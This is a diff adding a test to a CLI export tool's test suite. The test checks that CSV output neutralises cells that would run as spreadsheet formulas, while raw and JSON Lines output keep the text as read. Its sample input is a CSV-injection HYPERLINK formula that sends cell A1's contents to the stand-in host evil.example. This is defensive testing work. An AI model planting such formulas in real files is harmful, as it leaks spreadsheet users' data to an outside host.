@@ -84,3 +84,22 @@ def test_export_needs_a_store(tmp_path: Path) -> None:
     r = CliRunner().invoke(cli, ["export", "--db", str(tmp_path / "none.db")])
     assert r.exit_code == 1
     assert "no such store" in r.stderr
+
+
+def test_csv_text_never_runs_as_a_spreadsheet_formula(tmp_path: Path) -> None:
+    path = str(tmp_path / "f.db")
+    formula = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
+    with Tracker(path) as t:
+        t.add({"id": "@x1", "outlet": "+outlet", "text": f"{formula}\n\n-1 is a number here."})
+    rows = list(csv.DictReader(io.StringIO(export("--db", path, "--format", "csv"))))
+    cells = [v for r in rows for v in r.values() if v]
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in cells)
+    assert {r["text"] for r in rows} == {"'" + formula, "'-1 is a number here."}
+    assert {r["article"] for r in rows} == {"'@x1"}
+    raw = list(csv.DictReader(io.StringIO(export("--db", path, "--format", "csv", "--raw"))))
+    assert {r["text"] for r in raw} == {formula, "-1 is a number here."}
+    # JSON Lines keeps text exactly as read
+    assert {json.loads(x)["text"] for x in export("--db", path).splitlines()} == {
+        formula,
+        "-1 is a number here.",
+    }
